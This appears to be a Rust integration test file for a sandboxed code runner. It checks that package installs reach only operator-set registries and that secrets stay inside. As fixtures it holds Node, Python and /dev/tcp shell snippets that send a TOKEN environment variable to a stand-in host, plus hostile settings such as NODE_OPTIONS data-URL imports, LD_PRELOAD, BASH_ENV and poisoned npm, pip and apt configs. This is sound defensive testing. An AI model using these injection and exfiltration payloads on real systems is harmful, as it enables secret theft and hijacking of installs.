//! Which registries an installation reaches: those of the options, never those of a request.

use std::{collections::BTreeMap, sync::Arc};

use serde_json::{Value, json};

use super::{
    install::packages,
    world::{World, filtered_options},
};
use crate::common::{engine, run};

/// Sends a secret to a private address through the proxy, in the place of whatever loads it.
const NODE: &str = "require('http').get({host: '127.0.0.1', port: 8118,
    path: 'http://private.test/stolen?' + process.env.TOKEN}).on('error', () => {});";

const PYTHON: &str = "import os, http.client
try:
    proxy = http.client.HTTPConnection('127.0.0.1', 8118, timeout=2)
    proxy.request('GET', 'http://private.test/stolen?' + os.environ['TOKEN']); proxy.getresponse()
except Exception: pass";

const SHELL: &str = "{ exec 9<>/dev/tcp/127.0.0.1/8118; } 2>/dev/null &&
    printf 'GET http://private.test/stolen?%s HTTP/1.1\\r\\nHost: private.test\\r\\n\\r\\n' \"$TOKEN\" >&9";

/// Every way that is known to name a registry or to load code, in the environment of a request.
fn environment() -> Value {
    let registry = "http://private.test/";
    json!({
        "PIP_INDEX_URL": registry, "PIP_EXTRA_INDEX_URL": registry, "PIP_FIND_LINKS": registry,
        "PIP_TRUSTED_HOST": "private.test", "PIP_CONFIG_FILE": "/sandbox/.config/pip/pip.conf",
        "PIP_PROXY": "", "UV_DEFAULT_INDEX": registry,
        "PYTHONPATH": "/sandbox/inject", "PYTHONSTARTUP": "/sandbox/inject/sitecustomize.py",
        "NPM_CONFIG_REGISTRY": registry, "npm_config_registry": registry,
        "npm_config_@demo:registry": registry, "NPM_CONFIG_USERCONFIG": "/sandbox/.npmrc",
        "NPM_CONFIG_GLOBALCONFIG": "/sandbox/.npmrc", "BUN_CONFIG_REGISTRY": registry,
        "JSR_URL": registry, "XDG_CONFIG_HOME": "/sandbox/.config",
        "NODE_OPTIONS": format!("--import=data:text/javascript,{}", encoded()),
        "BUN_OPTIONS": "--preload=/sandbox/inject.cjs",
        "BASH_ENV": "/sandbox/inject.sh", "ENV": "/sandbox/inject.sh",
        "LD_PRELOAD": "/sandbox/inject.so", "APT_CONFIG": "/sandbox/apt.conf",
    })
}

/// [`NODE`] as a module in an address.
fn encoded() -> String {
    let module = NODE.replace("require('http')", "(await import('http'))");
    let byte = |byte: u8| match byte {
        b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' => char::from(byte).to_string(),
        other => format!("%{other:02X}"),
    };
    module.bytes().map(byte).collect()
}

/// The same in files, which a session keeps for its next installation.
fn files() -> Value {
    let registry = "http://private.test/";
    json!({
        "/sandbox/.npmrc": format!("registry={registry}\n@demo:registry={registry}\n"),
        "/sandbox/.config/pip/pip.conf": format!("[global]\nindex-url = {registry}\ntrusted-host = private.test\n"),
        "/sandbox/.bunfig.toml": format!("[install]\nregistry = \"{registry}\"\n"),
        "/sandbox/apt.conf": format!("Acquire::http::Proxy \"http://127.0.0.1:8118\";\nDPkg::Pre-Invoke {{\"{registry}\";}};\n"),
        "/sandbox/inject/sitecustomize.py": PYTHON,
        "/sandbox/inject.cjs": NODE,
        "/sandbox/inject.sh": SHELL,
    })
}

/// A request with network `none` could once post a secret to a private address this way.
#[tokio::test(flavor = "multi_thread")]
#[ignore = "runs in a namespace"]
async fn a_request_sends_an_installation_to_no_private_address() {
    let world = World::new().await;
    for mode in ["ephemeral", "persistent"] {
        for runtime in ["python", "node", "bun", "deno", "bash"] {
            let secrets = json!({"TOKEN": "hunter2-secret"});
            let more = json!({"mode": mode, "timeoutMs": 20_000, "secrets": secrets});
            let mut options = filtered_options(&[], &more);
            options["network"] = "none".into();
            let engine = engine(options);
            let planted = json!({"runtime": runtime, "cmd": "true", "files": files()});
            run(&engine, planted).await.unwrap();
            let package = if runtime == "deno" {
                "npm:demo"
            } else {
                "demo"
            };
            let request = json!({
                "runtime": runtime, "cmd": "true", "installPackages": [package],
                "env": environment(),
            });
            // Nothing on this network has the package.
            let error = run(&engine, request).await.unwrap_err().to_string();
            assert!(error.starts_with("Package install failed"), "{error}");
            let seen = world.take_seen();
            let private = seen
                .iter()
                .filter(|seen| seen.line.contains("private.test"));
            assert_eq!(private.count(), 0, "{mode} {runtime}: {seen:?}");
            engine.stop().await;
        }
    }
}

/// The operator's registry is reached where it is, and its password does not get out.
#[tokio::test(flavor = "multi_thread")]
#[ignore = "runs in a namespace"]
async fn registries_of_the_options_are_reached_exactly_as_written() {
    let mut files: BTreeMap<String, Vec<u8>> = packages().await;
    for (from, to) in [
        ("mirror.test/simple/demo/", "private.test/simple/demo/"),
        ("mirror.test/npm/demo", "private.test/npm/demo"),
    ] {
        let text = String::from_utf8(files[from].clone()).unwrap();
        let text = text.replace("https://mirror.test", "http://private.test:8080");
        files.insert(to.to_owned(), text.into_bytes());
    }
    let world = World::with(files, Arc::new(|_, _, _| None)).await;
    for (runtime, url, code, printed) in [
        (
            "python",
            "http://user:hunter2@private.test:8080/simple",
            "import demo; print(demo.NAME)",
            "from the index",
        ),
        (
            "node",
            "http://private.test:8080/npm/",
            "console.log(require('demo'))",
            "from the registry",
        ),
        (
            "bun",
            "http://private.test:8080/npm/",
            "import demo from 'demo'; console.log(demo)",
            "from the registry",
        ),
    ] {
        let more = json!({"installRegistries": {runtime: [url]}, "secrets": {"TOKEN": "hunter2"}});
        let mut options = filtered_options(&[], &more);
        options["network"] = "none".into();
        let engine = engine(options);
        let request = json!({"runtime": runtime, "code": code, "installPackages": ["demo"]});
        let result = run(&engine, request.clone()).await.unwrap();
        assert_eq!(result.stdout, printed, "{runtime} {result:?}");
        let seen = world.take_seen();
        assert!(
            seen.iter().all(|seen| seen.line.contains(" private.test/")),
            "{runtime} {seen:?}"
        );
        let signed = seen
            .iter()
            .any(|seen| seen.authorization.starts_with("Basic "));
        assert_eq!(signed, runtime == "python");
        // The program itself has no network.
        let ask = json!({"runtime": runtime, "cmd": "exec 3<>/dev/tcp/127.0.0.1/8118"});
        assert_ne!(run(&engine, ask).await.unwrap().exit_code, 0);
        engine.stop().await;
    }
}
